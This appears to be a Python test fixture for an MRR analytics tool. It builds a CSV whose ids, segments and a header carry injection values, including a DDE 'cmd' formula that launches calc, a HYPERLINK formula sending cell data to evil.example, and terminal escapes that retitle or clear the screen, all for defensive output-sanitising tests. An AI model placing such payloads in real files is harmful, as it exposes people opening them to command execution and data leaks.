"""Values from the data that attack whoever opens an output: formulas, terminal escapes, markup.

``HOSTILE_CSV`` is a long MRR file whose customer ids, segment values and one column name
are such values (as the attack on 4404c29 found them in Customers, Segments and headers):
every customer pays 100 in 2024-01 and 2024-02, and 90 in 2024-03, so each one is in the
cohort of every window and a contraction of the last month.
"""

from __future__ import annotations

import csv
import io
import re

#: Texts a spreadsheet would run: OWASP's examples, a link that leaks, a DDE command.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB-led",
)
#: Texts a terminal would obey: retitle the window, clear the screen; and Rich markup.
TERMINAL = ("\x1b]0;owned\x07", "\x1b[2Jwiped", "[/bold]", "[red]red[/red]")
#: A customer id that is a plain negative number: a spreadsheet reads a number, no formula.
NUMBER_ID = "-12"
#: An attribute column whose very name is a formula.
FORMULA_COLUMN = '=HYPERLINK("http://evil.example","col")'

IDS = (*FORMULAS, *TERMINAL, NUMBER_ID, "plain")


def _segment(i: int) -> str:
    return FORMULAS[1] if i % 2 else "-seg"


def hostile_csv(ids: tuple[str, ...] = IDS) -> str:
    """The CSV text: customer_id, month, mrr, segment and the formula-named column."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["customer_id", "month", "mrr", "segment", FORMULA_COLUMN])
    for i, customer in enumerate(ids):
        for month, mrr in (("2024-01", "100"), ("2024-02", "100"), ("2024-03", "90")):
            writer.writerow([customer, month, mrr, _segment(i), FORMULAS[0]])
    return buffer.getvalue()


def is_formula_like(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell`` (OWASP's first characters), a plain
    decimal number excepted: the tests' own statement of the rule, not the code's."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"[+-]?\d+(\.\d+)?", cell
    )
